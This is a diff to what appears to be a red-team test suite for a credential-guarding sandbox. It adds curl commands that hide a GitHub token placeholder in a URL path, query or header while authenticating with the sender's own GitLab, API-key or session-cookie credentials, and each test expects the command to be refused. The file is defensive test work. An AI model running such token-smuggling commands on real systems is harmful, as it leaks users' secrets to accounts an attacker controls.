@@ -13,8 +13,10 @@
  * same host (its own token in the Authorization header) authenticates, and
  * the placeholder, once in the path, the query or another header, is the
  * data that account keeps (a file named by it in the command's own public
- * repository). A request with an Authorization header that does not hold
- * the placeholder gets no value added elsewhere: refused.
+ * repository). A request with authentication of its own that does not
+ * hold the placeholder (an Authorization header, GitLab's PRIVATE-TOKEN or
+ * private_token parameter, an API key header, a session cookie) gets no
+ * value added elsewhere: refused.
  *
  * Judged at the server: what it was sent, beside the Authorization header.
  */
@@ -68,6 +70,11 @@ describe.each(runners())('red team: a credential sent as data to its own host ($
     ['the path, beside a bearer token of the command\'s own', () => `curl -sS -X PUT -H "Authorization: Bearer ${OWN}" ${url('/repos/own/public/contents/')}"$GITHUB_TOKEN".txt`],
     ['the query, beside a Basic authorization of the command\'s own', () => `curl -sS -u own:${OWN} "${url('/chat.postMessage?channel=c&text=')}$GITHUB_TOKEN"`],
     ['a header, beside an authorization of the command\'s own', () => `curl -sS -H "Authorization: token ${OWN}" -H "Dropbox-API-Arg: {\\"path\\": \\"/$GITHUB_TOKEN\\"}" ${url('/2/files/upload')}`],
+    // Hosts take an account's token in other places too: GitLab's PRIVATE-TOKEN header and private_token parameter, an API key header, a session cookie.
+    ['the path, beside a PRIVATE-TOKEN of the command\'s own', () => `curl -sS -X POST -H "PRIVATE-TOKEN: ${OWN}" ${url('/api/v4/projects/own%2Fpublic/repository/files/')}"$GITHUB_TOKEN"`],
+    ['the query, beside a private_token parameter of the command\'s own', () => `curl -sS -X POST "${url(`/api/v4/projects/1/issues?private_token=${OWN}&title=`)}$GITHUB_TOKEN"`],
+    ['the path, beside an X-Api-Key of the command\'s own', () => `curl -sS -X PUT -H "X-Api-Key: ${OWN}" ${url('/v1/files/')}"$GITHUB_TOKEN"`],
+    ['the path, beside a session cookie of the command\'s own', () => `curl -sS -X PUT -b "_session=${OWN}" ${url('/repos/own/public/contents/')}"$GITHUB_TOKEN".txt`],
   ])('beside the one that authenticates, in %s: refused, the server keeps no token', async (_where, script) => {
     const before = kept.length;
     const r = await run(`${script()}; echo`);
@@ -78,9 +85,9 @@ describe.each(runners())('red team: a credential sent as data to its own host ($
     expect(report.network.credentials?.misuse).toBe(1);
   });
 
-  it('control: the placeholder in one place (a header, or the path) authenticates', async () => {
-    const r = await run(`curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" ${url('/user')}; echo; curl -sS ${url('/bot')}"$GITHUB_TOKEN"/getMe`);
+  it('control: the placeholder in one place (a header, or the path) authenticates, also beside a CDN\'s cookie', async () => {
+    const r = await run(`curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" ${url('/user')}; echo; curl -sS ${url('/bot')}"$GITHUB_TOKEN"/getMe; echo; curl -sS -b __cf_bm=abc -H "Authorization: Bearer $GITHUB_TOKEN" ${url('/user')}`);
     const report = JSON.parse(r.stdout) as { stdout: string };
-    expect(report.stdout).toBe('authenticated\nauthenticated');
+    expect(report.stdout).toBe('authenticated\nauthenticated\nauthenticated');
   });
 });
